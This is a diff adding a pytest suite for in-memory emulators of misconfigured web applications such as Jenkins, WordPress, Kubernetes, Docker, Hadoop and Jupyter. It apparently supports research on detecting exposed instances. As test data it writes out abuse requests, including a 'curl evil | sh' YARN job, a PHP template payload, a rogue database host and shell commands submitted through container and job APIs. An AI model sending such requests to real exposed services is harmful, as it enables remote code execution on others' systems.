@@ -1,0 +1,501 @@
+"""Behavioural tests for the 25 application emulators.
+
+Each in-scope emulator is checked on three axes:
+
+1. the Table-10 probe endpoint serves the detection markers when (and
+   only when) the instance is vulnerable;
+2. the exploit path records a command execution when vulnerable and is
+   denied when secured;
+3. the landing-page surface carries the app's prefilter signature in both
+   states.
+"""
+
+import pytest
+
+from repro.apps.catalog import create_instance, in_scope_apps
+from repro.core.prefilter import match_signatures
+from repro.net.http import HttpRequest
+from repro.net.transport import InMemoryTransport
+from repro.util.errors import ConfigError
+
+
+def _get(app, path):
+    return app.handle(HttpRequest.get(path))
+
+
+def _follow(app, path, hops=5):
+    response = _get(app, path)
+    while response.is_redirect and hops:
+        response = _get(app, response.location)
+        hops -= 1
+    return response
+
+
+class TestJenkins:
+    def test_vulnerable_serves_create_item_form(self):
+        app = create_instance("jenkins", vulnerable=True)
+        response = _get(app, "/view/all/newJob")
+        assert response.status == 200
+        assert 'id="createItem"' in response.body
+
+    def test_secure_redirects_to_login(self):
+        app = create_instance("jenkins")
+        assert _get(app, "/view/all/newJob").is_redirect
+
+    def test_x_jenkins_header_discloses_version(self):
+        app = create_instance("jenkins")
+        assert _follow(app, "/").headers.get("x-jenkins") == app.version
+
+    def test_old_version_insecure_by_default(self):
+        from repro.apps.ci import Jenkins
+
+        assert Jenkins("1.9").is_vulnerable()
+        assert not Jenkins("2.289").is_vulnerable()
+
+    def test_build_records_execution(self):
+        app = create_instance("jenkins", vulnerable=True)
+        app.handle(HttpRequest.post("/job/x/build", "command=id"))
+        executions = app.drain_executions()
+        assert executions and executions[0].command == "id"
+        assert executions[0].mechanism == "build-step"
+
+    def test_build_denied_when_secure(self):
+        app = create_instance("jenkins")
+        response = app.handle(HttpRequest.post("/job/x/build", "command=id"))
+        assert response.status == 401
+        assert not app.drain_executions()
+
+
+class TestGoCD:
+    def test_insecure_by_default(self):
+        app = create_instance("gocd", vulnerable=True)
+        response = _follow(app, "/")
+        assert "Create a pipeline - Go" in response.body
+
+    @pytest.mark.parametrize("version,marker", [
+        ("14.2", "Pipelines - Go"),
+        ("18.10", "Dashboard - Go"),
+        ("21.2", "Create a pipeline - Go"),
+    ])
+    def test_dashboard_markup_varies_by_era(self, version, marker):
+        app = create_instance("gocd", version=version, vulnerable=True)
+        assert marker in _get(app, "/go/home").body
+
+    @pytest.mark.parametrize("version", ["14.2", "18.10", "21.2"])
+    def test_all_eras_detected_by_plugin(self, version):
+        from repro.core.tsunami.plugins import plugin_for
+        from tests.core.test_plugins import make_context
+
+        app = create_instance("gocd", version=version, vulnerable=True)
+        assert plugin_for("gocd").detect(make_context(app, port=8153)) is not None
+
+    @pytest.mark.parametrize("version", ["14.2", "18.10", "21.2"])
+    def test_all_eras_match_prefilter(self, version):
+        app = create_instance("gocd", version=version, vulnerable=True)
+        assert "gocd" in match_signatures(_follow(app, "/").body)
+
+    def test_secured_redirects_to_login(self):
+        app = create_instance("gocd")
+        app.secure()
+        assert _get(app, "/go/home").is_redirect
+
+    def test_pipeline_creation_records_execution(self):
+        app = create_instance("gocd", vulnerable=True)
+        app.handle(HttpRequest.post("/go/api/admin/pipelines", "command=whoami"))
+        assert app.drain_executions()[0].mechanism == "pipeline-task"
+
+
+class TestWordPress:
+    def test_uninstalled_serves_setup_form(self):
+        app = create_instance("wordpress", vulnerable=True)
+        body = _get(app, "/wp-admin/install.php").body
+        assert 'id="setup"' in body and 'id="pass1"' in body
+
+    def test_installed_reports_already_installed(self):
+        app = create_instance("wordpress")
+        assert "already installed" in _get(app, "/wp-admin/install.php").body
+
+    def test_install_hijack_then_template_edit(self):
+        app = create_instance("wordpress", vulnerable=True)
+        app.handle(HttpRequest.post("/wp-admin/install.php", "admin_password=pwned"))
+        assert not app.is_vulnerable()  # trust on first use consumed
+        # The hijacker authenticates with the password they just chose;
+        # a wrong credential is bounced to the login page.
+        denied = app.handle(
+            HttpRequest.post("/wp-admin/theme-editor.php",
+                             "auth=wrong&newcontent=x")
+        )
+        assert denied.is_redirect
+        app.handle(HttpRequest.post("/wp-admin/theme-editor.php",
+                                    "auth=pwned&newcontent=<?php evil(); ?>"))
+        assert app.drain_executions()[0].mechanism == "php-template"
+
+    def test_second_install_rejected(self):
+        app = create_instance("wordpress", vulnerable=True)
+        app.handle(HttpRequest.post("/wp-admin/install.php", "admin_password=a"))
+        response = app.handle(
+            HttpRequest.post("/wp-admin/install.php", "admin_password=b")
+        )
+        assert response.status == 403
+
+    def test_version_disclosed_in_generator_tag(self):
+        app = create_instance("wordpress")
+        assert f"WordPress {app.version}" in _get(app, "/").body
+
+
+class TestGrav:
+    def test_vulnerable_markers(self):
+        app = create_instance("grav", vulnerable=True)
+        assert "The Admin plugin has been installed" in _get(app, "/").body
+        assert "No user accounts found" in _get(app, "/admin").body
+
+    def test_account_creation_secures(self):
+        app = create_instance("grav", vulnerable=True)
+        app.handle(HttpRequest.post("/admin", "password=x"))
+        assert not app.is_vulnerable()
+
+
+class TestJoomla:
+    def test_installer_only_pre_install(self):
+        vulnerable = create_instance("joomla", vulnerable=True)
+        assert "Joomla! Web Installer" in _get(vulnerable, "/installation/index.php").body
+        secure = create_instance("joomla")
+        assert _get(secure, "/installation/index.php").status == 404
+
+    def test_remote_db_countermeasure_since_3_7_4(self):
+        app = create_instance("joomla", version="3.9", vulnerable=True)
+        response = app.handle(
+            HttpRequest.post("/installation/index.php",
+                             "db_host=evil.example&admin_password=x")
+        )
+        assert response.status == 403
+        assert app.is_vulnerable()  # install did not complete
+
+    def test_remote_db_allowed_before_3_7_4(self):
+        app = create_instance("joomla", version="3.6", vulnerable=True)
+        app.handle(HttpRequest.post("/installation/index.php",
+                                    "db_host=evil.example&admin_password=x"))
+        assert not app.is_vulnerable()
+
+    def test_local_db_install_always_possible(self):
+        app = create_instance("joomla", version="3.9", vulnerable=True)
+        app.handle(HttpRequest.post("/installation/index.php", "admin_password=x"))
+        assert not app.is_vulnerable()
+
+
+class TestDrupal:
+    def test_installer_marker_survives_whitespace_squeeze(self):
+        app = create_instance("drupal", vulnerable=True)
+        body = _get(app, "/core/install.php").body
+        assert '<liclass="is-active">Setupdatabase' in "".join(body.split())
+
+    def test_markup_spacing_varies_by_version(self):
+        old = create_instance("drupal", version="8.6", vulnerable=True)
+        new = create_instance("drupal", version="9.1", vulnerable=True)
+        assert _get(old, "/core/install.php").body != _get(new, "/core/install.php").body
+
+
+class TestKubernetes:
+    def test_secure_api_returns_401(self):
+        app = create_instance("kubernetes")
+        assert _get(app, "/api/v1/pods").status == 401
+
+    def test_anonymous_api_lists_running_pods(self):
+        import json
+
+        app = create_instance("kubernetes", vulnerable=True)
+        payload = json.loads(_get(app, "/api/v1/pods").body)
+        assert payload["items"]
+        assert payload["items"][0]["status"]["phase"] == "Running"
+
+    def test_version_endpoint_open_even_when_secure(self):
+        app = create_instance("kubernetes")
+        assert f"v{app.version}" in _get(app, "/version").body
+
+    def test_pod_creation_records_execution(self):
+        import json
+
+        app = create_instance("kubernetes", vulnerable=True)
+        spec = {"spec": {"containers": [{"command": ["sh", "-c", "id"]}]}}
+        app.handle(HttpRequest.post("/api/v1/namespaces/default/pods",
+                                    json.dumps(spec)))
+        assert app.drain_executions()[0].mechanism == "pod"
+
+    def test_invalid_pod_body_rejected(self):
+        app = create_instance("kubernetes", vulnerable=True)
+        response = app.handle(
+            HttpRequest.post("/api/v1/namespaces/default/pods", "{not json")
+        )
+        assert response.status == 400
+        assert not app.drain_executions()
+
+
+class TestDocker:
+    def test_exposed_api_is_the_vulnerability(self):
+        app = create_instance("docker", vulnerable=True)
+        assert '{"message":"page not found"}' in _get(app, "/").body
+        assert "MinAPIVersion" in _get(app, "/version").body
+
+    def test_tls_protected_api_forbids(self):
+        app = create_instance("docker")
+        assert _get(app, "/version").status == 403
+
+    def test_container_lifecycle_records_execution(self):
+        import json
+
+        app = create_instance("docker", vulnerable=True)
+        app.handle(HttpRequest.post("/containers/create",
+                                    json.dumps({"Cmd": ["sh", "-c", "id"]})))
+        app.handle(HttpRequest.post("/containers/c0ffee/start"))
+        execution = app.drain_executions()[0]
+        assert execution.mechanism == "container"
+        assert "id" in execution.command
+
+
+class TestConsul:
+    def test_agent_self_exposed_by_default(self):
+        app = create_instance("consul")
+        assert "DebugConfig" in _get(app, "/v1/agent/self").body
+
+    def test_script_checks_flag_controls_vulnerability(self):
+        import json
+
+        secure = create_instance("consul")
+        vulnerable = create_instance("consul", vulnerable=True)
+        secure_cfg = json.loads(_get(secure, "/v1/agent/self").body)["DebugConfig"]
+        vuln_cfg = json.loads(_get(vulnerable, "/v1/agent/self").body)["DebugConfig"]
+        assert not secure_cfg["EnableLocalScriptChecks"]
+        assert vuln_cfg["EnableLocalScriptChecks"]
+
+    def test_check_registration_executes_script_only_when_enabled(self):
+        import json
+
+        body = json.dumps({"Name": "h", "Args": ["sh", "-c", "id"]})
+        vulnerable = create_instance("consul", vulnerable=True)
+        vulnerable.handle(HttpRequest("PUT", "/v1/agent/check/register", body=body))
+        assert vulnerable.drain_executions()
+
+        secure = create_instance("consul")
+        response = secure.handle(
+            HttpRequest("PUT", "/v1/agent/check/register", body=body)
+        )
+        assert response.status == 500
+        assert not secure.drain_executions()
+
+
+class TestHadoop:
+    def test_dr_who_marker_when_vulnerable(self):
+        app = create_instance("hadoop", vulnerable=True)
+        assert "dr.who" in _get(app, "/cluster/cluster").body.lower()
+
+    def test_kerberos_cluster_requires_auth_but_identifies_itself(self):
+        app = create_instance("hadoop")
+        app.secure()
+        response = _get(app, "/cluster/cluster")
+        assert response.status == 401
+        assert "Hadoop" in response.body  # prefilter can still attribute it
+
+    def test_yarn_submission_records_execution(self):
+        import json
+
+        app = create_instance("hadoop", vulnerable=True)
+        spec = {"am-container-spec": {"commands": {"command": "curl evil | sh"}}}
+        app.handle(HttpRequest.post("/ws/v1/cluster/apps", json.dumps(spec)))
+        assert app.drain_executions()[0].mechanism == "yarn-app"
+
+
+class TestNomad:
+    def test_acl_disabled_lists_jobs(self):
+        app = create_instance("nomad", vulnerable=True)
+        assert _get(app, "/v1/jobs").status == 200
+
+    def test_acl_enabled_denies(self):
+        app = create_instance("nomad")
+        assert _get(app, "/v1/jobs").status == 403
+
+    def test_raw_exec_job_records_execution(self):
+        import json
+
+        app = create_instance("nomad", vulnerable=True)
+        spec = {"Job": {"TaskGroups": [{"Tasks": [{
+            "Driver": "raw_exec",
+            "Config": {"command": "sh", "args": ["-c", "id"]},
+        }]}]}}
+        app.handle(HttpRequest("PUT", "/v1/jobs", body=json.dumps(spec)))
+        assert app.drain_executions()[0].mechanism == "nomad-job"
+
+
+class TestJupyter:
+    @pytest.mark.parametrize("slug,marker", [
+        ("jupyterlab", "JupyterLab"),
+        ("jupyter-notebook", "Jupyter Notebook"),
+    ])
+    def test_terminals_api_gated_by_auth(self, slug, marker):
+        vulnerable = create_instance(slug, vulnerable=True)
+        response = _get(vulnerable, "/api/terminals")
+        assert response.status == 200 and marker in response.body
+        secure = create_instance(slug)
+        assert _get(secure, "/api/terminals").status == 403
+
+    def test_notebook_pre_4_3_insecure_by_default(self):
+        from repro.apps.notebooks import JupyterNotebook
+
+        assert JupyterNotebook("4.2").is_vulnerable()
+        assert not JupyterNotebook("4.3").is_vulnerable()
+        assert not JupyterNotebook("6.2").is_vulnerable()
+
+    def test_lab_always_secure_by_default(self):
+        from repro.apps.notebooks import JupyterLab
+
+        assert not JupyterLab("0.31").is_vulnerable()
+
+    def test_terminal_input_records_execution(self):
+        app = create_instance("jupyter-notebook", vulnerable=True)
+        app.handle(HttpRequest.post("/terminals/websocket/1", "stdin=uname"))
+        assert app.drain_executions()[0].mechanism == "terminal"
+
+    def test_api_version_disclosed_even_when_secure(self):
+        app = create_instance("jupyter-notebook")
+        assert app.version in _get(app, "/api").body
+
+
+class TestZeppelin:
+    def test_notebook_api_gated_by_shiro(self):
+        vulnerable = create_instance("zeppelin", vulnerable=True)
+        assert '{"status":"OK",' in _get(vulnerable, "/api/notebook").body
+        secure = create_instance("zeppelin")
+        assert _get(secure, "/api/notebook").status == 403
+
+    def test_sh_paragraph_records_execution(self):
+        app = create_instance("zeppelin", vulnerable=True)
+        app.handle(HttpRequest.post("/api/notebook/job/2A94M5J1Z",
+                                    "paragraph=%25sh+id"))
+        executions = app.drain_executions()
+        assert executions and executions[0].mechanism == "paragraph"
+
+
+class TestPolynote:
+    def test_always_vulnerable(self):
+        assert create_instance("polynote").is_vulnerable()
+
+    def test_cannot_be_secured(self):
+        with pytest.raises(NotImplementedError):
+            create_instance("polynote").secure()
+
+    def test_ws_records_execution(self):
+        app = create_instance("polynote")
+        app.handle(HttpRequest.post("/ws", "cell=print(1)"))
+        assert app.drain_executions()[0].mechanism == "cell"
+
+
+class TestAjenti:
+    def test_autologin_serves_dashboard(self):
+        app = create_instance("ajenti", vulnerable=True)
+        body = _get(app, "/view/").body
+        assert "ajentiPlatformUnmapped" in body
+
+    def test_default_requires_login(self):
+        app = create_instance("ajenti")
+        assert "ajentiPlatformUnmapped" not in _get(app, "/view/").body
+
+    def test_terminal_records_execution(self):
+        app = create_instance("ajenti", vulnerable=True)
+        app.handle(HttpRequest.post("/api/terminal", "input=ls"))
+        assert app.drain_executions()[0].mechanism == "terminal"
+
+
+class TestPhpMyAdmin:
+    def test_vulnerable_serves_server_page(self):
+        app = create_instance("phpmyadmin", vulnerable=True)
+        body = _get(app, "/").body
+        assert "Server connection collation" in body
+
+    def test_needs_both_conditions(self):
+        from repro.apps.panels import PhpMyAdmin
+
+        assert not PhpMyAdmin("5.1", {"allow_no_password": True}).is_vulnerable()
+        assert not PhpMyAdmin("5.1", {"root_password_empty": True}).is_vulnerable()
+
+    def test_sql_records_execution(self):
+        app = create_instance("phpmyadmin", vulnerable=True)
+        app.handle(HttpRequest.post("/import.php", "sql_query=SELECT+1"))
+        assert app.drain_executions()[0].mechanism == "sql"
+
+    def test_alias_path_served(self):
+        app = create_instance("phpmyadmin")
+        assert _get(app, "/phpmyadmin").status == 200
+
+
+class TestAdminer:
+    def test_empty_password_login_pre_4_6_3(self):
+        app = create_instance("adminer", vulnerable=True)
+        body = _get(app, "/adminer.php?username=root").body
+        assert "Logged as" in body and "through PHP extension" in body
+
+    def test_4_6_3_rejects_empty_password(self):
+        from repro.apps.panels import Adminer
+
+        app = Adminer("4.8", {"root_password_empty": True})
+        assert not app.is_vulnerable()
+        assert "Logged as" not in _get(app, "/adminer.php?username=root").body
+
+    def test_version_shown_on_login_page(self):
+        app = create_instance("adminer")
+        assert app.version in _get(app, "/").body
+
+
+class TestOutOfScopeApps:
+    @pytest.mark.parametrize(
+        "slug", ["gitlab", "drone", "travis", "ghost", "spark-notebook",
+                 "vestacp", "omnidb"]
+    )
+    def test_never_vulnerable_and_securing_is_noop(self, slug):
+        app = create_instance(slug)
+        assert not app.is_vulnerable()
+        app.secure()
+        assert not app.is_vulnerable()
+
+    @pytest.mark.parametrize(
+        "slug", ["gitlab", "ghost", "vestacp", "omnidb"]
+    )
+    def test_landing_pages_match_no_prefilter_signature(self, slug):
+        app = create_instance(slug)
+        assert match_signatures(_follow(app, "/").body) == ()
+
+
+class TestEmulatorSurface:
+    def test_landing_pages_match_own_signature_in_both_states(self):
+        for spec in in_scope_apps():
+            for vulnerable in (True, False):
+                if not vulnerable and spec.slug == "polynote":
+                    continue
+                app = create_instance(spec.slug, vulnerable=vulnerable)
+                body = _follow(app, "/").body
+                assert spec.slug in match_signatures(body), (spec.slug, vulnerable)
+
+    def test_static_files_deterministic_per_version(self):
+        for spec in in_scope_apps():
+            a = create_instance(spec.slug)
+            b = create_instance(spec.slug)
+            assert a.static_files() == b.static_files()
+
+    def test_static_files_differ_across_versions(self):
+        from repro.apps.versions import RELEASE_DB
+
+        for spec in in_scope_apps():
+            releases = RELEASE_DB.releases(spec.slug)
+            old = spec.emulator(releases[0].version, {})
+            new = spec.emulator(releases[-1].version, {})
+            if old.static_files():
+                assert old.static_files() != new.static_files(), spec.slug
+
+    def test_static_files_served_over_http(self):
+        app = create_instance("wordpress")
+        for path, content in app.static_files().items():
+            response = _get(app, path)
+            assert response.status == 200
+            assert response.body == content
+
+    def test_unknown_path_404(self):
+        app = create_instance("gocd")
+        assert _get(app, "/definitely/not/a/route").status == 404
